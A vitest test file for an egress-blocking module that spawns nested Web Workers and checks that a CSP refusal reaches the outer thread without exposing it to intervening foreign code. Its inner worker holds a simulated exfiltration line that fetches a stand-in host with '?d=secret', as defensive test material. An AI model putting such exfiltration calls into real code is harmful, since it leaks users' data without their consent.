import { expect, test } from 'vitest';
import { tellOuterThreadCode } from '../../../src/egress/nested-threads.ts';

/** A thread from memory, with the code before its own that foreign code gets. */
function threadOf(code: string): Worker {
  return new Worker(URL.createObjectURL(new Blob([tellOuterThreadCode, code], { type: 'text/javascript' })));
}

/** Threads from memory inherit the policy of the page, so this page gets one that leaves the tests' own server. */
function forbidStrangers(): void {
  const meta = document.createElement('meta');
  meta.httpEquiv = 'Content-Security-Policy';
  meta.content = `connect-src ${location.origin} ${location.origin.replace('http', 'ws')}`;
  document.head.append(meta);
}

async function firstMessage(thread: Worker): Promise<unknown> {
  return await new Promise((resolve) => {
    thread.addEventListener('message', ({ data }) => resolve(data), { once: true });
  });
}

test('what is refused in a thread within a thread comes out, and the foreign code between does not see it', async () => {
  forbidStrangers();
  const inner = `${tellOuterThreadCode} fetch('https://nested.invalid/?d=secret').catch(() => {});`;
  const outer = `
    const thread = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inner)}])));
    thread.onmessage = ({ data }) => postMessage({ seenByForeignCode: data });`;
  const thread = threadOf(outer);
  const said = await firstMessage(thread);
  thread.terminate();
  expect(said).toEqual({ airlockRefusal: ['connect-src', expect.stringMatching(/^https:\/\/nested\.invalid/)] });
});
